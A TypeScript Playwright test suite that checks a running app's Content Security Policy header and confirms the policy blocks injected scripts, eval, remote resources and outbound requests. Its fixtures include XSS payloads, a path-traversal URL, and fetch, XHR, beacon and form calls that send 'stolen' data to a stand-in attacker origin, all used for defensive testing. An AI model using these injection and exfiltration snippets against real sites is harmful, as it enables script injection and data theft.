/** The content security policy of the running app, under every way to run or fetch what is not the app's. */
import { describe, expect, it } from 'vitest';
import { findChromium } from '../../build/chromium-runtime/browser/find-chromium.ts';
import { attackedPage } from '../support/attacked-page.ts';

describe.skipIf(findChromium() === null)('the policy of the running app', () => {
  const attacked = attackedPage();
  const { violations } = attacked;

  describe('7. Define a Content Security Policy', () => {
    it('comes as a header with every answer, good or bad', async () => {
      const answers: { url: string; status: number; policy: string | undefined; sniff: string | undefined }[] = [];
      const listen = (response: import('playwright-core').Response) => {
        const headers = response.headers();
        answers.push({
          ...{ url: response.url(), status: response.status() },
          ...{ policy: headers['content-security-policy'], sniff: headers['x-content-type-options'] },
        });
      };
      attacked.app.page.on('response', listen);
      for (const path of ['nothing-here.html', 'index.html.map', '%2e%2e%2fpackage.json', ''])
        await attacked.app.page.goto(new URL(path, attacked.home).href, { waitUntil: 'load' });
      attacked.app.page.off('response', listen);
      expect(answers.length).toBeGreaterThan(5);
      expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 404]));
      for (const { url, policy, sniff } of answers) {
        expect(policy, url).toMatch(/^default-src 'none'; script-src 'self';/);
        expect(policy, url).not.toContain('unsafe-eval');
        expect(policy, url).toContain("connect-src 'none'");
        expect(sniff, url).toBe('nosniff');
      }
      await attacked.app.page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    });

    it.each<[string, string, (origin: string) => void]>([
      [
        'a script in the page',
        'script-src-elem',
        () => {
          const script = document.createElement('script');
          script.textContent = 'globalThis.pwned = "inline script"';
          document.body.append(script);
        },
      ],
      [
        'a script in markup',
        'script-src-attr',
        () => {
          const holder = document.createElement('div');
          holder.innerHTML =
            '<img src="data:," onerror="globalThis.pwned = 1"><svg onload="globalThis.pwned = 2"></svg>';
          document.body.append(holder);
        },
      ],
      [
        'a javascript: link',
        'script-src-elem',
        () => {
          const link = document.createElement('a');
          link.href = 'javascript:void(globalThis.pwned = "javascript:")';
          document.body.append(link);
          link.click();
        },
      ],
      [
        'eval',
        'script-src',
        () => (globalThis as unknown as { eval: (code: string) => void }).eval('globalThis.pwned = "eval"'),
      ],
      ['a function made of text', 'script-src', () => new Function('globalThis.pwned = "Function"')()],
      [
        'a timer with text',
        'script-src',
        () => (setTimeout as unknown as (code: string) => void)('globalThis.pwned = "timer"'),
      ],
      [
        'WebAssembly',
        'script-src',
        () =>
          void WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
            () => Object.assign(globalThis, { pwned: 'wasm' }),
            () => undefined,
          ),
      ],
      [
        'a script from elsewhere',
        'script-src-elem',
        (origin) => {
          const script = document.createElement('script');
          script.src = `${origin}/evil.js`;
          document.body.append(script);
        },
      ],
      [
        'a script in a data: address',
        'script-src-elem',
        () => {
          const script = document.createElement('script');
          script.src = 'data:text/javascript,globalThis.pwned="data"';
          document.body.append(script);
        },
      ],
      [
        'a module from elsewhere',
        'script-src-elem',
        (origin) => {
          const script = document.createElement('script');
          Object.assign(script, { type: 'module', src: `${origin}/evil.js` });
          document.body.append(script);
        },
      ],
      [
        'a worker made of text',
        'worker-src',
        () => void new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))),
      ],
      [
        'a picture from elsewhere',
        'img-src',
        (origin) => {
          new Image().src = `${origin}/pixel.png?stolen=1`;
        },
      ],
      [
        'a style sheet from elsewhere',
        'style-src-elem',
        (origin) => {
          const link = document.createElement('link');
          Object.assign(link, { rel: 'stylesheet', href: `${origin}/evil.css` });
          document.head.append(link);
        },
      ],
      [
        'a font from elsewhere',
        'font-src',
        (origin) => void new FontFace('evil', `url(${origin}/evil.woff2)`).load().catch(() => undefined),
      ],
      [
        'a sound from elsewhere',
        'media-src',
        (origin) => {
          new Audio(`${origin}/evil.mp3`).load();
        },
      ],
      ['a request', 'connect-src', (origin) => void fetch(`${origin}/?stolen=1`).catch(() => undefined)],
      [
        'an old-fashioned request',
        'connect-src',
        (origin) => {
          const request = new XMLHttpRequest();
          request.open('POST', `${origin}/?stolen=1`);
          request.send('stolen');
        },
      ],
      ['a socket', 'connect-src', (origin) => void new WebSocket(origin.replace('http', 'ws'))],
      ['a stream of events', 'connect-src', (origin) => void new EventSource(`${origin}/events`)],
      ['a beacon', 'connect-src', (origin) => void navigator.sendBeacon(`${origin}/beacon`, 'stolen')],
      [
        'a form',
        'form-action',
        (origin) => {
          const form = document.createElement('form');
          Object.assign(form, { action: `${origin}/form`, method: 'post' });
          document.body.append(form);
          form.submit();
        },
      ],
      [
        'a frame from elsewhere',
        'frame-src',
        (origin) => {
          const frame = document.createElement('iframe');
          frame.src = `${origin}/frame`;
          document.body.append(frame);
        },
      ],
      [
        'an object',
        'object-src',
        (origin) => {
          const object = document.createElement('object');
          object.data = `${origin}/evil.swf`;
          document.body.append(object);
        },
      ],
      [
        'another base for addresses',
        'base-uri',
        (origin) => {
          const base = document.createElement('base');
          base.href = `${origin}/`;
          document.head.append(base);
        },
      ],
    ])('stops %s', async (_name, directive, attack) => {
      expect(await violations(attack, directive)).toContain(directive);
    });

    it('gives a frame without an address neither scripts nor the bridge', async () => {
      const frame = await attacked.app.page.evaluate(async () => {
        const element = document.createElement('iframe');
        element.srcdoc = '<script>parent.pwned = "srcdoc"</script>';
        const loaded = new Promise((resolve) => element.addEventListener('load', resolve, { once: true }));
        document.body.append(element);
        await loaded;
        const empty = document.createElement('iframe');
        document.body.append(empty);
        const bridge = empty.contentWindow && 'reenvio' in empty.contentWindow;
        element.remove();
        empty.remove();
        return { bridge };
      });
      expect(frame).toEqual({ bridge: false });
    });
  });
});
